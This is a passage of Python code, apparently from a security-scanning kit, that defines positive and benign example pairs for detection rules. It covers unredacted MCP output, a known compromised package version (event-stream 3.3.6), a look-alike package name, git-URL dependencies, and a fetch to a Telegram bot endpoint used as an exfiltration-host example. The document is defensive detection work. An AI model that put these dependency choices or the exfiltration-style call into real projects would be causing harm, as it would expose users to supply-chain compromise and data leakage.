    "output.masks-secrets": (
        _mcp("const out = redact(result);\n"),
        _mcp("const out = result;\n"),
    ),
    "supply.known-incident": (
        _deps(**{"event-stream": "3.3.6"}),
        _deps(**{"event-stream": "4.0.1"}),
    ),
    "supply.url-dependency": (
        _deps(x="git+https://github.com/a/x.git"),
        _deps(x="^1.2.3"),
    ),
    "supply.look-alike-name": (_deps(expresss="1.0.0"), _deps(express="4.0.0")),
    "supply.exfil-host": (
        _js("fetch('https://api.telegram.org/bot1:a/sendMessage');\n"),
        _js("fetch('https://api.telegram.org/bot1:a/sendMessage');\n", "telegram-notify"),
    ),
    "supply.third-party-url": (
        _js("fetch('https://api.example.com/');\n"),
        _js("fetch('http://localhost:3000/');\n"),
    ),
}
RULES = tuple(replace(r, positive=EXAMPLES[r.id][0], benign=EXAMPLES[r.id][1]) for r in RULES)
BY_ID: dict[str, Rule] = {r.id: r for r in RULES}


def rule(rid: str) -> Rule:
    """The catalogue entry of a rule id; an id the catalogue lacks is a bug in the kit."""
    return BY_ID[rid]
